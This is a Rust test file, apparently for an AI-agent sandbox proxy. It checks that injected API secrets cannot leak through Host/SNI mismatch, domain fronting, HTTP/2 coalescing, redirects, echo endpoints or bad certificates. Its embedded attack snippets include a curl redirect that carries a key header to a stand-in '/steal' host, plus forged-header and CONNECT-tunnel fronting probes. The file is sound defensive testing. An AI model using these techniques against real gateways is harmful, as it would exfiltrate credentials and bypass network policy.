//! Requests that say one thing to the gateway and another to the server, and secrets that are asked for.

use super::{API, EVIL, Scene, VALUE, World};
use crate::{Test, bench::expect};
use agentkernel_testkit::origin::{Certificate, Files, Net, Seen};
use serde_json::{Value, json};

pub(super) const fn tests() -> [Test; 8] {
    [
        ("hostile/sni-and-host-disagree", disagree),
        ("hostile/name-that-a-rule-denies", denied_name),
        ("hostile/domain-fronting", fronting),
        ("hostile/http2-coalescing", coalescing),
        ("hostile/redirect-to-a-forbidden-host", redirect),
        ("hostile/secret-asked-to-be-echoed", echo),
        ("hostile/wrong-certificate-upstream", certificates),
        ("hostile/secret-at-an-address-of-another-name", elsewhere),
    ]
}

fn disagree(world: &World) -> Result<(), String> {
    let scene = Scene::new(world, &[])?;
    scene.attack(
        "assert status(tls(API_IP, API_PORT, API, get(API))) == '200'
for request in (get(EVIL), get(API + '.' + EVIL), get('x' + API), get(API).replace(b'Host', b'X-Host'),
                get(API, extra='Host: ' + EVIL + '\\r\\n'), get(EVIL, extra='Host: ' + API + '\\r\\n'),
                get(API + ', ' + EVIL), get(API + '@' + EVIL), get(EVIL + '#' + API), get(API + '\\t' + EVIL),
                get(API, 'http://' + EVIL + '/'), get(API, 'https://' + EVIL + '/'), get(API + ':1')):
    answer = tls(API_IP, API_PORT, API, request)
    assert status(answer) in ('400', '421', 'none'), (request, answer)
# The other way round: no secret goes to who was not asked for by its name.
for sni in (EVIL, 'api.test.evil.test', None):
    try: answer = tls(API_IP, API_PORT, sni, get(API), verify=False)
    except ValueError: continue",
    )?;
    let seen = scene.api.record().requests();
    let meant = |seen: &Seen| {
        let host = seen.header("host");
        seen.sni.as_deref() == Some(API) && host.len() == 1 && host[0].split(':').next() == Some(API)
    };
    let has = |seen: &&Seen| seen.headers.iter().any(|(_, value)| value.contains(VALUE));
    let astray = seen.iter().filter(has).find(|seen| !meant(seen));
    expect(astray.is_none(), || format!("the secret went out: {astray:?}"))?;
    // Requests for another, requests that are no path, and a connection that says another name.
    let connection = format!("this connection is for {API}");
    let other = format!("\"name\":\"{EVIL}\"");
    scene.guest.refused(&[&connection, "a whole URL", &other])
}

/// A rule about an address does not undo one about a name that stands before it.
fn denied_name(world: &World) -> Result<(), String> {
    let api = world.https(&[API])?;
    let plain = world.site.http(Net::Allowed, &[API]).map_err(|e| e.to_string())?;
    let block = world.site.block(Net::Allowed);
    let guest = world.sandbox("box", &["--deny", EVIL, "--allow", &block])?;
    let script = format!(
        "answer = tls('{ip}', {port}, '{EVIL}', get('{EVIL}'), verify=False)
assert answer.startswith(b'ERROR'), answer
answer = say('{plain_ip}', {plain_port}, get('{EVIL}'))
assert status(answer) == '403' and b'{EVIL}' in answer, answer
print('held')",
        ip = api.address().ip(),
        port = api.address().port(),
        plain_ip = plain.address().ip(),
        plain_port = plain.address().port(),
    );
    let said = guest.python(&script, &[])?;
    expect(said == "held\n", || said.clone())?;
    let seen = (api.record().requests(), plain.record().requests());
    expect(seen.0.is_empty() && seen.1.is_empty(), || format!("{seen:?}"))?;
    guest.refused(&[EVIL])
}

/// One server has both names: the name outside is allowed, the one inside is not.
fn fronting(world: &World) -> Result<(), String> {
    let scene = Scene::new(world, &[])?;
    let both = world.site.https(&["front.test", "behind.test"]).map_err(|e| e.to_string())?;
    world.keep("FRONT", "hidden-front-8d1fa2")?;
    let guest = world.strict("other", &["--secret", "FRONT:front.test:X-Key", "--deny", "behind.test"])?;
    let script = format!(
        "ip, port = '{ip}', {port}
socket.getaddrinfo('front.test', port)
assert status(tls(ip, port, 'front.test', get('front.test'))) == '200'
assert status(tls(ip, port, 'front.test', get('behind.test'))) == '421'
s = socket.create_connection(PROXY)
s.sendall(f'CONNECT front.test:{{port}} HTTP/1.1\\r\\nHost: front.test\\r\\n\\r\\n'.encode())
assert status(s.recv(4096)) == '200'
with trusted().wrap_socket(s, server_hostname='front.test') as inside:
    inside.sendall(get('behind.test'))
    assert status(drain(inside)) == '421'
s = socket.create_connection(PROXY)
s.sendall(f'CONNECT front.test:{{port}} HTTP/1.1\\r\\nHost: front.test\\r\\n\\r\\n'.encode())
assert status(s.recv(4096)) == '200'
try:
    with ssl._create_unverified_context().wrap_socket(s, server_hostname='behind.test') as inside:
        inside.sendall(get('behind.test'))
        assert status(drain(inside)) in ('421', 'none')
except OSError: pass
print('held')",
        ip = both.address().ip(),
        port = both.address().port(),
    );
    let said = guest.python(&script, &[])?;
    expect(said == "held\n", || said.clone())?;
    let seen = both.record().requests();
    expect(seen.len() == 1 && seen[0].header("x-key") == ["hidden-front-8d1fa2"], || format!("{seen:?}"))?;
    guest.refused(&["front.test"])?;
    scene.api_saw(0)
}

/// A client that has a connection of HTTP/2 asks it for another name.
fn coalescing(world: &World) -> Result<(), String> {
    let scene = Scene::new(world, &[])?;
    let url = scene.api.url(API, "/");
    let code = "--silent --output /dev/null --write-out '%{http_code} %{http_version}\\n'";
    let script = format!(
        "curl --noproxy '*' --http2 {code} {url}; curl --noproxy '*' --http2 {code} -H 'Host: {EVIL}' {url}
        curl --http2 {code} -H 'Host: {EVIL}' {url}"
    );
    let said = scene.guest.says(&script)?;
    // All over HTTP/2, on the way and by CONNECT: over HTTP/1 nothing could be taken for one connection of two names.
    expect(said == "200 2\n421 2\n421 2\n", || said.clone())?;
    scene.api_saw(1)?;
    scene.guest.refused(&[API])
}

fn redirect(world: &World) -> Result<(), String> {
    let scene = Scene::new(world, &["--allow", "unbound.test"])?;
    let unbound = world.https(&["unbound.test"])?;
    let to = scene.evil.url(EVIL, "/steal");
    let from = scene.api.url(API, &format!("/redirect?to={to}"));
    let ran = scene.guest.sh(&format!("curl -sSL --location-trusted -H 'X-Key: mine' {from}"));
    expect(ran.code != Some(0) && scene.evil.record().is_empty(), || ran.to_string())?;
    // An allowed host without a binding is sent what the client has, which is nothing.
    let from = scene.api.url(API, &format!("/redirect?to={}", unbound.url("unbound.test", "/")));
    let script = format!("curl -sSLk --location-trusted -H \"X-Key: $KEY\" {from}");
    let ran = scene.guest.sh(&script);
    expect(ran.code == Some(0), || ran.to_string())?;
    let seen = unbound.record().requests();
    let clean = seen.iter().all(|seen| !seen.headers.iter().any(|(_, value)| value.contains(VALUE)));
    expect(!seen.is_empty() && clean, || format!("{seen:?}"))?;
    scene.api_saw(2)?;
    scene.guest.refused(&[EVIL])
}

fn echo(world: &World) -> Result<(), String> {
    let scene = Scene::new(world, &[])?;
    scene.attack(
        "import gzip, base64
for path in ('/echo', '/echo-gzip'):
    for extra in ('', 'Accept-Encoding: gzip\\r\\n', 'Accept-Encoding: br, deflate\\r\\n', 'Range: bytes=0-30\\r\\n'):
        answer = tls(API_IP, API_PORT, API, get(API, path, extra))
        assert status(answer) in ('200', '206'), answer
        head, _, body = answer.partition(b'\\r\\n\\r\\n')
        if b'gzip' in head.lower():
            if b'chunked' in head.lower():
                rest, body = body, b''
                while rest:
                    size, _, rest = rest.partition(b'\\r\\n')
                    size = int(size, 16)
                    body, rest = body + rest[:size], rest[size + 2:]
            body = gzip.decompress(body)
        assert b'[redacted]' in body, answer
        for form in (b'93ad41f07be2', base64.b64encode(b'hidden-secret')[:12]):
            assert form not in head + body, answer",
    )?;
    let seen = scene.api.record().requests();
    let has = seen.iter().all(|seen| seen.header("x-key") == [VALUE]);
    expect(seen.len() == 8 && has, || format!("the secret was not sent: {seen:?}"))?;
    // What was asked is written down, with the name of the secret that went along and no value.
    let log = scene.guest.log()?;
    let with_secret = |path: &str, status: u16| {
        let same = |line: &&Value| line["path"] == path && line["status"] == status;
        log.iter().filter(same).filter(|line| line["secrets"] == json!(["KEY"])).count()
    };
    let told: usize =
        ["/echo", "/echo-gzip"].map(|path| with_secret(path, 200) + with_secret(path, 206)).iter().sum();
    let clean = !log.iter().any(|line| line.to_string().contains(VALUE));
    expect(told == 8 && clean, || format!("{told} requests with the secret in the log: {log:?}"))
}

fn certificates(world: &World) -> Result<(), String> {
    world.keep("KEY", VALUE)?;
    let wrong = [Certificate::Expired, Certificate::OtherName, Certificate::Stranger];
    let names = ["expired.test", "other.test", "stranger.test"];
    let mut servers = Vec::new();
    for (certificate, name) in wrong.into_iter().zip(names) {
        let server = world.site.tls(Net::Allowed, &[name], certificate, Files::default());
        servers.push(server.map_err(|e| e.to_string())?);
    }
    let guest = world.strict(
        "box",
        &[
            "--secret",
            "KEY:expired.test:X-Key",
            "--secret",
            "KEY:other.test:X-Key",
            "--secret",
            "KEY:stranger.test:X-Key",
        ],
    )?;
    for (server, name) in servers.iter().zip(names) {
        let url = server.url(name, "/");
        // A server that is not there is a 502 as well.
        let why = format!("agentkernel: the certificate of {name} is not valid: ");
        for flags in ["", "--insecure"] {
            let said = guest.sh(&format!("curl {flags} --silent --write-out '%{{http_code}}' {url}")).out();
            expect(said.starts_with(&why) && said.ends_with("\n502"), || format!("{name}: {said}"))?;
        }
        expect(server.record().requests().is_empty(), || format!("{name} was sent a request"))?;
    }
    let told = names.map(|name| format!("the certificate of {name} is not valid"));
    guest.refused(&told.each_ref().map(String::as_str))
}

/// Who got hold of a certificate and has an address that may be reached is sent no secret: the name does not lead there.
fn elsewhere(world: &World) -> Result<(), String> {
    let other = world.https(&[API])?;
    // From now on the name leads to this one.
    let scene = Scene::new(world, &["--allow", API])?;
    let script = format!(
        "for request in (get(API), get(API, extra='X-Key: ' + os.environ['KEY'] + '\\r\\n')):
    answer = tls('{ip}', {port}, API, request, verify=False)
    assert status(answer) in ('200', 'none'), answer
assert status(tls(API_IP, API_PORT, API, get(API))) == '200'",
        ip = other.address().ip(),
        port = other.address().port(),
    );
    scene.attack(&script)?;
    scene.api_saw(1)?;
    let seen = other.record().requests();
    let has = |seen: &&Seen| seen.headers.iter().any(|(_, value)| value.contains(VALUE));
    let astray = seen.iter().find(has);
    expect(!seen.is_empty() && astray.is_none(), || format!("{astray:?} of {}", seen.len()))?;
    // A rule lets the address out, so what the log says is where it went, and that the secret went to the other place.
    let (there, here) = (other.address().ip().to_string(), scene.api.address().ip().to_string());
    let kept = ("secrets", "[\"KEY\"]");
    scene.guest.told(&[
        &[("type", "connection"), ("verdict", "allowed"), ("name", API), ("address", &there)],
        &[("type", "request"), ("name", API), ("address", &here), ("status", "200"), kept],
    ])?;
    let sent = scene.guest.told(&[&[("address", &there), kept]]);
    expect(sent.is_err(), || format!("the log has the secret at {there}"))
}
